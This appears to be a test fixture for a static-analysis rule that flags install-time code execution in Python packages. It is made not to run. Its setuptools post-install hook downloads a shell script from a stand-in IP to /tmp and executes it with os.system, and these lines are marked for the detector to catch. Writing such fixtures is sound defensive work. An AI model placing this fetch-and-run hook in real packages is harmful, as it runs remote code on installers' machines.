"""Fixture for python.exec.install_hook: `ruleid` lines must produce it, `ok` lines must not."""

raise SystemExit("codeward rule fixture: read by the analyzer, never run")

import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        # ruleid: python.exec.install_hook
        urllib.request.urlretrieve("https://203.0.113.9/p.sh", "/tmp/p.sh")
        # ruleid: python.exec.install_hook
        os.system("sh /tmp/p.sh")


# ruleid: python.exec.install_hook
os.system("echo installing")
# ok: python.exec.install_hook
setup(name="example", version="1.0", cmdclass={"install": PostInstall})
